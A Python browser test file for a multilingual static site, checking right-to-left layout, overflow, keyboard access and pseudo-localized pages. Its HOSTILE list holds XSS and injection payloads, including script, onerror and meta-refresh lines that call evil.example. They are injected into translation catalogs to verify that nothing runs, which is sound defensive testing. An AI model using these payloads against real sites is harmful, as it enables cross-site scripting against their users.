"""The example site as people read it, in Chromium: at any width, in either direction, with a keyboard alone."""

from __future__ import annotations

from pathlib import Path

import pytest

from i18n import catalog as catalogs
from i18n.settings import Policy
from tests import chromium
from tests.site import screenshots
from translate import article as articles

pytestmark = pytest.mark.browser

READ = [
    "en/",
    "en/japan-nato-summit/",
    "pt-br/explainers/partnership/",
    "ja/explainers/partnership/",
    "ar/explainers/partnership/",
    "ar/notes/tokyo/",
    "ar/",
    "ja/404.html",
]


@pytest.fixture(scope="module", params=["phone", "desktop"])
def page(request, browser):
    size = chromium.PHONE if request.param == "phone" else chromium.DESKTOP
    with browser.new_context(viewport=size) as context:
        yield context.new_page()


@pytest.mark.parametrize("path", READ[:-1:2])
def test_nobody_is_kept_out(page, served, path):
    page.goto(f"{served}/{path}")
    assert chromium.barriers(page) == []


@pytest.mark.parametrize("path", READ)
def test_no_page_is_wider_than_its_window(page, served, path):
    page.goto(f"{served}/{path}")
    assert chromium.overflow(page) <= 0
    broken = page.evaluate("[...document.images].filter(i => i.loading != 'lazy' && !i.naturalWidth).map(i => i.src)")
    assert broken == []


def test_arabic_runs_from_right_to_left_and_code_does_not(page, served):
    page.goto(f"{served}/ar/explainers/partnership/")
    direction = "e => getComputedStyle(e).direction"
    assert page.eval_on_selector("h1", direction) == "rtl"
    assert page.eval_on_selector("pre code", direction) == "ltr"
    heading, column = page.locator("h1").bounding_box(), page.locator("main").bounding_box()
    text = page.evaluate(
        "(() => { const r = document.createRange(); r.selectNodeContents(document.querySelector('h1'));"
        " return r.getBoundingClientRect().right })()"
    )
    assert abs(text - (heading["x"] + heading["width"])) < 2
    assert heading["x"] >= column["x"]


@pytest.mark.parametrize(
    ("path", "style", "value"),
    [
        ("ja/explainers/partnership/", "fontStyle", "normal"),
        ("ar/explainers/partnership/", "fontStyle", "normal"),
        ("ar/explainers/partnership/", "letterSpacing", "normal"),
        ("ja/explainers/partnership/", "textEmphasisStyle", "sesame"),
        ("pt-br/explainers/partnership/", "fontStyle", "italic"),
    ],
)
def test_stress_is_shown_as_the_script_does(page, served, path, style, value):
    page.goto(f"{served}/{path}")
    assert page.eval_on_selector("article em", f"e => getComputedStyle(e).{style}") == value


def test_the_switcher_leads_to_the_same_article(page, served):
    page.goto(f"{served}/ja/explainers/partnership/")
    page.get_by_role("link", name="العربية").click()
    assert page.url.endswith("/ar/explainers/partnership/")
    assert page.get_attribute("html", "dir") == "rtl"


def test_the_keyboard_reaches_the_content_first(page, served):
    page.goto(f"{served}/pt-br/explainers/partnership/")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('href')") == "#content"


def test_pages_need_no_script(browser, served):
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        page.goto(f"{served}/ar/explainers/partnership/")
        assert page.locator("article h2").count() == 5
        assert page.locator("script:not([type='application/ld+json'])").count() == 0


def pseudo(root: Path) -> None:
    """Every article in pseudo-languages: 40 % longer, and from right to left."""
    articles.localize(["articles"], ["en_XA", "ar_XB"], engine="pseudo", source="en")


@pytest.fixture(scope="module")
def long_site(build):
    return build(pseudo, policy=Policy.DRAFT, threshold=0)


@pytest.mark.parametrize("tag", ["en-xa", "ar-xb"])
@pytest.mark.parametrize("path", ["", "explainers/partnership/", "notes/tokyo/", "japan-nato-summit/", "404.html"])
def test_layouts_hold_with_longer_words_and_from_right_to_left(browser, long_site, tag, path):
    with browser.new_context(viewport=chromium.PHONE) as context:
        page = context.new_page()
        page.goto((long_site / tag / path / ("" if path.endswith("html") else "index.html")).as_uri())
        assert chromium.overflow(page) <= 0
        direction = page.evaluate("getComputedStyle(document.documentElement).direction")
        assert direction == ("rtl" if tag == "ar-xb" else "ltr")


HOSTILE = [
    '<script>window.ran = 1; fetch("https://evil.example/")</script>',
    '<img src=x onerror="window.ran = 2">',
    "\"'><svg onload=window.ran=3>",
    "</title></head><body onload=window.ran=4>",
    "[x](javascript:window.ran=5)",
    '<a href="javascript:window.ran=6">x</a>',
    "</script><script>window.ran=7</script>",
    "--><iframe srcdoc='<script>parent.ran=8</script>'></iframe>",
    '{"@context": "</script><script>window.ran=9</script>"}',
    "\u202e" + "x" * 20_000,
    "{{ 7 * 7 }}{% raw %}",
    '<style>@import "https://evil.example/x.css"</style>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
]


def hostile(root: Path) -> None:
    """Each translation becomes an attack; those that have tags keep them, so that they are not refused for that."""
    count = 0
    for path in sorted((root / "locales").rglob("*.po")):
        text = path.read_text(encoding="utf-8")
        base = catalogs.load(path)
        for unit in base.units:
            evil = HOSTILE[count % len(HOSTILE)].replace("\\", "\\\\").replace('"', '\\"')
            count += 1
            single = f'msgstr "{unit.target}"'
            text = text.replace(single, f'msgstr "{evil}{unit.target}"', 1) if unit.target else text
        path.write_text(text, encoding="utf-8")


def test_nothing_of_a_hostile_catalog_runs_even_where_it_is_let_through(browser, build, monkeypatch):
    monkeypatch.setattr("i18n.checks.html.refused", lambda source, target: None)
    site = build(hostile, policy=Policy.DRAFT, threshold=0)
    shown = 0
    with browser.new_context() as context:
        asked, dialogs = [], []
        context.route("https://**/*", lambda route: (asked.append(route.request.url), route.abort()))
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for file in sorted(site.rglob("*.html")):
            if file.parent == site and file.name == "index.html":
                continue
            page.goto(file.as_uri())
            page.wait_for_load_state()
            assert page.evaluate("window.ran") is None, file
            assert page.locator("a[href^='javascript:']").count() == 0, file
            handlers = (
                "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on/.test(n))"
            )
            assert page.evaluate(handlers) == [], file
            assert page.url == file.as_uri()
            shown += "window.ran" in page.inner_text("body")
        assert (asked, dialogs) == ([], [])
    assert shown > 3, "the attacks were not even on the pages"


def test_the_pictures_of_the_docs_can_be_taken_anew(tmp_path):
    """Each is there, none is large, and every one that is taken is in docs/images."""
    taken = screenshots.take(tmp_path)
    assert all(path.stat().st_size < screenshots.LARGEST for path in taken)
    assert {path.name for path in taken} <= {path.name for path in screenshots.IMAGES.glob("*.png")}
